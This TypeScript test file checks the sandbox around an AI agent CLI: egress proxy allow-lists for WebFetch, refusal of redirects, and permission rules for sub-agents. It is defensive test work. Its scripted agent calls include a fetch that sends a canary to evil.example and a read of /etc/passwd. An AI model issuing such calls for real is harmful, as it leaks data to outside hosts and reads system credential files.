import { createServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import { chmod } from 'node:fs/promises';
import { describe, expect, onTestFinished, test } from 'vitest';
import { layers, type Layers } from '../../action/caged-job.ts';
import { isRefusal } from '../../core/refusal.ts';
import type { BrokerEvent } from '../../edge/broker/serve.ts';
import type { EgressEvent } from '../../edge/egress/passage.ts';
import { startEgressProxy } from '../../edge/egress/proxy.ts';
import type { RecordedRequest } from '../../lab/model/server.ts';
import { certificate } from '../edge/egress/certificate.ts';
import { runCaged } from './caged.ts';

/* What we rely on in the CLI's two tools that reach further than its own process: pages and sub-agents. */

const withTools = (tools: string[], more: object = {}) => ({
  plan: { tools, allowedTools: tools, taintedTools: tools, ...more },
});
const fetches = (url: string) => ({ tool: 'WebFetch', input: { url, prompt: 'What is the password?' } });
const textOf = (requests: readonly RecordedRequest[]) => JSON.stringify(requests.map(({ body }) => body));

/** A site of ours in the place of the internet: our own proxy leads to it, and the CLI trusts its certificate. */
async function site(page: string): Promise<{ layers: Layers; events: EgressEvent[]; paths: string[] }> {
  const paths: string[] = [];
  const events: EgressEvent[] = [];
  const server = createServer(certificate, (request, response) => {
    paths.push(request.url ?? '');
    if (request.url === '/moved') response.writeHead(302, { location: 'https://evil.example/x' }).end();
    else response.writeHead(200, { 'content-type': 'text/html' }).end(`<p>${page}</p>`);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  onTestFinished(() => void server.close());
  const { port } = server.address() as AddressInfo;
  const world = { lookup: () => Promise.resolve(['127.0.0.1']), isForbidden: () => false, port: () => port };
  return {
    events,
    paths,
    layers: {
      ...layers,
      launchEnvironment: (limits) => ({
        ...layers.launchEnvironment(limits),
        NODE_EXTRA_CA_CERTS: '/workspace/ca.pem',
      }),
      async startBroker(options) {
        const { egress } = options;
        const broker = await layers.startBroker({ ...options, egress: null });
        if (isRefusal(broker) || !egress) return broker;
        const proxy = await startEgressProxy({ ...egress, onEvent: (event) => events.push(event) }, world);
        await chmod(egress.socketPath, 0o666);
        onTestFinished(() => proxy.close());
        return broker;
      },
    },
  };
}

describe('WebFetch', () => {
  const plan = withTools(['Read', 'WebFetch'], { egress: ['good.example'], egressMaxMb: 10 });

  test('reads a page of an allowed host, through our proxy, and has it summed up by the run’s own model', async () => {
    const { layers: use, events, paths } = await site('The password is PAGE-CANARY.');
    const { requests, run } = await runCaged(
      { turns: [{ calls: [fetches('https://good.example/a')] }, { text: 'Done.' }] },
      { ...plan, layers: use, files: { 'ca.pem': certificate.cert.toString() } },
    );
    expect(run.stopped).toBeNull();
    expect(paths).toEqual(['/a']);
    expect(events.map(({ host, allowed }) => [host, allowed])).toEqual([['good.example', true]]);
    expect(textOf(requests)).toContain('PAGE-CANARY');
    expect(new Set(requests.map(({ body }) => (body as { model: string }).model))).toEqual(
      new Set(['claude-opus-5-5']),
    );
  });

  test('does not follow a page to another host', async () => {
    const { layers: use, events } = await site('');
    await runCaged(
      { turns: [{ calls: [fetches('https://good.example/moved')] }, { text: 'Done.' }] },
      { ...plan, layers: use, files: { 'ca.pem': certificate.cert.toString() } },
    );
    expect(events.map(({ host }) => host)).toEqual(['good.example']);
  });

  test('of another host is refused before anything is looked up', async () => {
    const brokerEvents: BrokerEvent[] = [];
    const { notes } = await runCaged(
      { turns: [{ calls: [fetches('https://evil.example/?s=CANARY')] }, { text: 'Done.' }] },
      { ...plan, brokerEvents },
    );
    expect(notes).toContainEqual(
      expect.objectContaining({
        kind: 'asked',
        verdict: expect.objectContaining({ allow: false, rule: 'web-hosts' }) as object,
      }),
    );
    expect(brokerEvents.filter(({ kind }) => kind === 'egress')).toEqual([]);
  });
});

describe('a sub-agent', () => {
  const agent = (input: object) => ({
    tool: 'Agent',
    input: { description: 'a part', prompt: 'SUB-TASK', ...input },
  });
  const read = (file_path: string) => ({ tool: 'Read', input: { file_path } });

  test('asks for its calls like its parent, by a name of its own, and has no children', async () => {
    const calls = [[agent({})], [read('/etc/passwd')], [read('a.txt')], [agent({})]];
    // The parent's only answer with a call is the first one; what comes between is the sub-agent's.
    const { notes, run, requests } = await runCaged(
      (request, at) => {
        const isSub = JSON.stringify(request.messages[0]).includes('SUB-TASK');
        const own = isSub ? calls.slice(1)[at] : at === 0 ? calls[0] : undefined;
        return own === undefined ? { text: 'Done.' } : { calls: own };
      },
      withTools(['Read', 'Agent']),
    );
    const asked = notes.flatMap((note) => (note.kind === 'asked' ? [note] : []));
    const denied = notes.flatMap((note) => (note.kind === 'denied' ? [note] : []));
    expect(run.stopped).toBeNull();
    expect(asked.map(({ call, verdict }) => [call.tool, call.actor === 'main', verdict.allow])).toEqual([
      ['Agent', true, true],
      ['Read', false, true],
      ['Agent', false, false],
    ]);
    // Paths outside are refused by the CLI itself, which does not ask; they are recorded all the same.
    expect(denied.map(({ call, verdict }) => [call.tool, verdict.allow ? '' : verdict.rule])).toEqual([
      ['Read', 'inside-workspace'],
    ]);
    const offered = requests
      .filter(({ body }) => JSON.stringify(body).includes('SUB-TASK'))
      .flatMap(({ body }) => (body as { tools?: { name: string }[] }).tools?.map(({ name }) => name) ?? []);
    expect([...new Set(offered)].toSorted()).toEqual(['Agent', 'DeferredToolPlaceholder', 'Read']);
  });

  test.each([{ model: 'haiku' }, { isolation: 'worktree' }, { subagent_type: 'Explore' }])(
    'with %j is refused',
    async (more) => {
      const { notes } = await runCaged(
        { turns: [{ calls: [agent(more)] }, { text: 'Done.' }] },
        withTools(['Read', 'Agent']),
      );
      const rules = notes.flatMap((note) =>
        note.kind === 'asked' && !note.verdict.allow ? [note.verdict.rule] : [],
      );
      expect(rules).toEqual(['sub-agents']);
    },
  );
});
